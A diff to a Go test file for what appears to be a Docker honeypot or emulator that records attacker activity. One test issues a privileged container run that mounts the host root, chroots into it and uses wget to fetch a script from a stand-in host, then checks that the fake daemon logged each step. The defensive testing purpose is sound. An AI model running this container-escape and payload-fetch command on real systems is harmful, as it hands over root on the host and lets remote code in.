@@ -24,7 +24,7 @@ func cli(t *testing.T, r *rig) *client {
 	if _, err := exec.LookPath("docker"); err != nil {
 		t.Skip("the docker command line is not installed")
 	}
-	return &client{t: t, addr: r.addr, home: t.TempDir()}
+	return &client{t: t, addr: r.Addr, home: t.TempDir()}
 }
 
 // run returns what the command printed and its exit code.
@@ -57,7 +57,7 @@ func (c *client) must(args ...string) string {
 }
 
 func TestCommandLineLooksAround(t *testing.T) {
-	r := start(t, Default())
+	r := start(t)
 	c := cli(t, r)
 	d := r.host.Docker
 	if got := c.must("version", "--format", "{{.Server.Version}} {{.Server.APIVersion}} {{.Server.KernelVersion}} {{.Server.GoVersion}}"); got != d.Version+" "+d.APIVersion+" "+r.host.Kernel.Release+" "+d.GoVersion+"\n" {
@@ -83,24 +83,21 @@ func TestCommandLineLooksAround(t *testing.T) {
 		c.must(args...)
 	}
 	for _, op := range []string{"GET /version", "GET /info", "GET /containers/json", "GET /images/json"} {
-		r.sink.wait(t, op, func(o *observe.Observation) bool { return o.Call != nil && o.Call.Operation == op })
+		r.called(op, "")
 	}
 }
 
 func TestCommandLineTakesTheHost(t *testing.T) {
-	r := start(t, Default())
+	r := start(t)
 	c := cli(t, r)
 	out, errs, code := c.run("", "run", "--rm", "--privileged", "--net=host", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "sh", "-c", "id; cat /etc/hostname; wget -q http://198.51.100.9/d.sh -O /tmp/d.sh; exit 3")
-	t.Logf("out %q\nerr %s", out, errs)
 	if code != 3 || !strings.Contains(out, "uid=0(root)") {
 		t.Errorf("exit %d: %q %q", code, out, errs)
 	}
 	if !strings.Contains(errs, "Pull complete") || !strings.Contains(errs, "Status: Downloaded newer image for alpine:latest") {
 		t.Errorf("pull: %s", errs)
 	}
-	got := r.sink.wait(t, "create", func(o *observe.Observation) bool {
-		return o.Call != nil && o.Call.Operation == "POST /containers/create" && strings.Contains(strings.Join(o.Call.Args, " "), "bind=/:/mnt")
-	})
+	got := r.called("POST /containers/create", "bind=/:/mnt")
 	args := strings.Join(got.Call.Args, " ")
 	for _, want := range []string{"image=alpine", "privileged=true", "networkmode=host", "cmd=chroot /mnt sh -c 'id;", "http://198.51.100.9/d.sh"} {
 		if !strings.Contains(args, want) {
@@ -110,10 +107,8 @@ func TestCommandLineTakesTheHost(t *testing.T) {
 	if !strings.Contains(got.Call.Detail, `"Privileged":true`) || len(got.Evidence) != 1 {
 		t.Errorf("detail %.200q, %d pieces of evidence", got.Call.Detail, len(got.Evidence))
 	}
-	r.sink.wait(t, "command", func(o *observe.Observation) bool {
-		return o.Command != nil && o.Command.User == "root" && strings.HasPrefix(o.Command.Line, "chroot /mnt sh -c")
-	})
-	r.sink.wait(t, "download", func(o *observe.Observation) bool {
+	r.commanded("chroot /mnt sh -c")
+	r.saw("download", func(o *observe.Observation) bool {
 		return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.9/d.sh" && o.Fetch.Tool == "wget"
 	})
 	if out := c.must("ps", "-aq"); strings.Count(out, "\n") != len(r.host.Containers) {
